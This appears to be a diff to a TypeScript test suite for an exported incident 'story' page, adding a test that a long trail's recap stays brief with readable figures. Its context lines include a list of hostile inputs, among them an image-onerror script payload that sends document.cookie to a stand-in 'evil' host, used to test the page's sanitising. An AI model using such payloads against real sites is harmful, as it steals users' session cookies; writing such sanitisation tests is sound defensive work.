@@ -5,7 +5,9 @@ import { storyFile, storyFolder } from '@/lib/share/story-file'
 import { fileName } from '@/lib/story/file-name'
 import { codeSpan, fenced, guardLines, markdownText } from '@/lib/story/markdown-text'
 import { readable, safeLink } from '@/lib/story/foreign'
+import type { Amendment } from '@/lib/model/amendment'
 import { incident } from '@/tests/fixtures/incident'
+import { longTrail } from '@/tests/fixtures/long-trail'
 
 const HOSTILE = [
   `<img src=x onerror=fetch('//evil/'+document.cookie)>`,
@@ -95,6 +97,21 @@ test('what the recap names leads to where it is told', () => {
     'Did the license certificate expire?',
   ])
   for (const link of links) expect(told(link)?.textContent).toContain(link.textContent)
+})
+
+test('of a long trail figures are said as people say them, and the recap stays brief', () => {
+  const long = longTrail(2_000)
+  const { id: trailId, by } = long.trail
+  const verdicts = long.leads.map(({ id, at }): Amendment => {
+    const said = { id: `sure-${id}`, trailId, by, at: at + 1e9, leadId: id, because: 'seen', stepId: null }
+    return { ...said, kind: 'verdict', verdict: 'confirmed' }
+  })
+  const page = parsed(storyFile({ ...long, amendments: verdicts }, pictures, { zone: 'UTC' }))
+  const told = (part: string) => page.querySelector(part)?.textContent ?? ''
+  expect(told('header')).toMatch(/1,\d{3} looks · .* · 1 d 9 h/)
+  expect(told('.recap').match(/Confirmed: /g)).toHaveLength(8)
+  expect(told('.recap')).toContain('7 more leads were confirmed.')
+  expect(told('.resolved').match(/Confirmed/g)).toHaveLength(15)
 })
 
 test('the story tells its path by itself', () => {
